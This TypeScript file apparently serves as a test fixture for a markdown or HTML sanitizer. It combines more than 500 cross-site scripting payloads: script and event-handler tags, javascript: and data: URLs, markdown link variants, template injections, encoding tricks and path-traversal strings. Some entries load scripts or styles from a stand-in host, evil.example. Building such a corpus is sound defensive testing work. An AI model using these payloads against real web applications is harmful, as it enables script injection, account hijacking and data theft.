/** Texts that would run a script if anything took them for markup: families, put together to more than 500. */

/** What each tries to do; a page that runs one of them has `window.ran` or shows a dialog. */
const RUN = 'window.ran=1;alert(1)'

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  '<script src=https://evil.example/x.js></script>',
  `<script/x>${RUN}</script/x>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  '<iframe src="javascript:parent.ran=1"></iframe>',
  `<details open ontoggle="${RUN}">`,
  `<body onload="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}" id=clobbered>x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  '<object data="data:text/html,<script>parent.ran=1</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=parent.ran=1>">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.ran=1">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  `<x onclick="${RUN}" style="position:fixed;inset:0">x</x>`,
] as const

/** What would have to be closed first. */
const BEFORE = [
  ...['', '">', "'>", '-->', ']]>', '</textarea>', '</title>', '</script>', '</style>'],
  ...['</noscript>', '`', '\\'],
] as const

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript%3A${RUN}`,
  'data:text/html,<script>window.ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  `vbscript:${RUN}`,
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  'https:evil.example',
  'https://user:word@evil.example',
  `/"onmouseover="${RUN}`,
  `/'><script>${RUN}</script>`,
] as const

const ADDRESS_FORMS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "title")`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `text[^1]\n\n[^1]: [x](${address})`,
  (address) => `| a |\n| --- |\n| [x](${address}) |`,
  (address) => `> [!NOTE]\n> [x](${address})`,
]

const OTHERS = [
  '{{constructor.constructor("window.ran=1")()}}',
  '{{snapshot.name" onmouseover="window.ran=1}}',
  '{{law:x}}<script>window.ran=1</script>',
  '{{chart:<svg onload=window.ran=1>}}',
  '{{range:x?budget=1&state=<img src=x onerror=window.ran=1>}}',
  '{{}}{{{{}}}}',
  `\${window.ran=1}`,
  '#{window.ran=1}',
  '<%= window.ran=1 %>',
  '![<img src=x onerror=window.ran=1>](media:x "<script>window.ran=1</script>")',
  '![x](media:x" onerror="window.ran=1)',
  '![x](media:../../../etc/passwd)',
  '[x](/preview "onmouseover=window.ran=1")',
  '[<img src=x onerror=window.ran=1>](/preview)',
  '\u202e<script>window.ran=1</script>',
  '\ufeff<script>window.ran=1</script>',
  '<\u0000script>window.ran=1</script>',
  '＜script＞window.ran=1＜/script＞',
  '\u2028<script>window.ran=1</script>',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  '__proto__',
  '"}]};window.ran=1;//',
  '</script><script>window.ran=1</script>',
] as const

export const SCRIPTS: readonly string[] = [
  ...new Set([
    ...TAGS.flatMap((tag) => BEFORE.map((before) => `${before}${tag}`)),
    ...ADDRESSES.flatMap((address) => ADDRESS_FORMS.map((form) => form(address))),
    ...OTHERS,
  ]),
]
